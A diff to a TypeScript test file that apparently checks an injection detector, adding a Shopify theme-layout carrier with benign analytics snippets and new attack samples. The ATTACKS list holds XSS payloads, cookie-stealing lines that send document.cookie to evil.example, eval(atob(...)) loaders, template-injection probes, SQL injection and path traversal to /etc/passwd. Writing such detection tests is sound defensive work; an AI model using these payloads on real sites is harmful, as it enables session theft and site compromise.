@@ -35,6 +35,7 @@ const CARRIERS: Record<string, Carrier> = {
   'wazuh rule file': (v) => ({ method: 'PUT', path: '/rules/files/local_rules.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: v }),
   'ghost code injection': json('blog.example.com', '/ghost/api/admin/settings/', (v) => ({ settings: [{ key: 'codeinjection_head', value: v }] }), 'PUT'),
   'header plugin': form('shop.example.com', '/wp-admin/options-general.php?page=insert-headers-and-footers', (v) => [['ihaf_insert_header', v], ['_wpnonce', 'a1b2c3d4e5'], ['submit', 'Save']]),
+  'shopify theme layout': (v) => ({ method: 'PUT', path: '/admin/api/2024-07/themes/357906983048/assets.json', query: '', headers: { Host: 'k3x9q2m1.myshopify.com', 'Content-Type': 'application/json', 'X-Shopify-Access-Token': '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' }, body: JSON.stringify({ asset: { key: 'layout/theme.liquid', value: v } }) }),
   'service proxy path': (v) => ({ method: 'GET', path: v, query: '', headers: { Host: '127.0.0.1:8001', Accept: 'text/html' } }),
   'settings referer': (v) => ({ method: 'GET', path: '/api/v1/status', query: '', headers: { Host: '10.0.4.12:8080', Accept: 'application/json', Referer: v } }),
 };
@@ -45,11 +46,17 @@ const PIXEL = "<!-- Meta Pixel Code -->\n<script>\n!function(f,b,e,v,n,t,s)\n{if
 const GTAG = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n\n  gtag('config', 'G-8XK2LQ4M1Z', { 'anonymize_ip': true });\n</script>";
 const MATOMO = "<script>\n  var _paq = window._paq = window._paq || [];\n  /* tracker methods like \"setCustomDimension\" should be called before \"trackPageView\" */\n  _paq.push(['trackPageView']);\n  _paq.push(['enableLinkTracking']);\n  (function() {\n    var u=\"https://stats.example.org/\";\n    _paq.push(['setTrackerUrl', u+'matomo.php']);\n    _paq.push(['setSiteId', '3']);\n    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];\n    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);\n  })();\n</script>";
 
+/** Shopify's layout/theme.liquid around a head snippet (page-layout.ts). */
+const theme = (head: string, body = "  {% section 'header' %}\n  {{ content_for_layout }}"): string =>
+  `<!doctype html>\n<html lang="{{ request.locale.iso_code }}">\n<head>\n${head}\n  <meta charset="utf-8">\n  <title>{{ page_title }}</title>\n  {{ content_for_header }}\n  {{ 'base.css' | asset_url | stylesheet_tag }}\n</head>\n<body>\n${body}\n</body>\n</html>`;
+
 const BENIGN: [string, string][] = [
   // Vendors' snippets whole (tag-snippets.ts), and a panel's own page as the Referer (referer-origin.ts).
   ['header plugin', GTM],
   ['header plugin', PIXEL],
   ['ghost code injection', GTAG],
+  ['shopify theme layout', theme(GTM)],
+  ['shopify theme layout', theme(`${GTAG}\n${PIXEL}`)],
   ['ghost code injection', `${MATOMO}\n<script defer data-domain="example.com" src="https://plausible.io/js/script.js"></script>`],
   // A scheduler's job command beside its schedule (scheduled-commands.ts).
   ['cron command', 'mysqldump --single-transaction -u shop shop_db | gzip > /home/shop/backups/shop-$(date +\\%F).sql.gz'],
@@ -116,6 +123,14 @@ const ATTACKS: [string, string][] = [
   ['header plugin', `${PIXEL_HEAD}document.location='https://evil.example/?c='+document.cookie;\n</script>`],
   ['header plugin', `${GTM}\n<script>fetch('https://evil.example/c?'+document.cookie)</script>`],
   ['ghost code injection', '<script async src="https://www.googletagmanager.com/gtag/js?id=G-8XK2LQ4M1Z" onload="eval(atob(this.id))"></script>'],
+  // A theme layout around a snippet with something that runs or leaks in its skeleton, body or template outputs.
+  ['shopify theme layout', theme(GTM, '<script>new Image().src="https://evil.example/c?"+document.cookie</script>')],
+  ['shopify theme layout', theme(GTM).replace('<body>', '<body onload="eval(atob(location.hash.slice(1)))">')],
+  ['shopify theme layout', theme(GTM, '<img src=x onerror=alert(document.domain)>')],
+  ['shopify theme layout', theme(GTM, "{{ ''.__class__.__mro__[1].__subclasses__() }}")],
+  ['shopify theme layout', theme(GTM, '{{ config.items() }}')],
+  ['shopify theme layout', theme(GTM).replace('{{ page_title }}', '</title><script>alert(document.cookie)</script>')],
+  ['shopify theme layout', theme(GTM, '<iframe src="javascript:alert(1)"></iframe>')],
   ['settings referer', "http://10.0.4.12:8080/settings?tab=network' UNION SELECT password FROM users--"],
   ['settings referer', 'http://10.0.4.12:8080/"><script>alert(document.cookie)</script>'],
   ['settings referer', 'http://10.0.4.12:8080/files?path=../../../../etc/passwd'],
